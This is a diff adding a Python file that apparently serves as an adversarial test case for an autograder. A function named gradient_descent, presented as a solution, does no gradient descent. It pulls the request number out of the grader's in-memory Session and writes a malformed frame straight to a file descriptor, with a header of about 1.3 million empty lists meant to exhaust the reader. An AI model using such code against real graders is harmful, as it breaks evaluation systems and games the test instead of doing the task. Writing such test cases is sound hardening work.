@@ -1,0 +1,27 @@
+"""Two million empty lists in a header of four megabytes.
+
+Tries: to make the reader build far more than it was sent
+Must: breach
+Detail: malformed
+"""
+
+import gc
+import os
+
+from autograder.codec import MAGIC, PREFIX
+
+
+def number():
+    """The number of the request at hand, from the loop that serves them."""
+    return next(it for it in gc.get_objects() if type(it).__name__ == "Session")._request
+
+
+def send(frame):
+    while frame:
+        frame = frame[os.write(3, frame) :]
+
+
+def gradient_descent(grad, theta0, eta, n_steps):
+    header = b'["returned",%d,[' % number() + b'[],' * 1_300_000 + b'0]]'
+    send(PREFIX.pack(MAGIC, len(header), 0) + header)
+    return 0
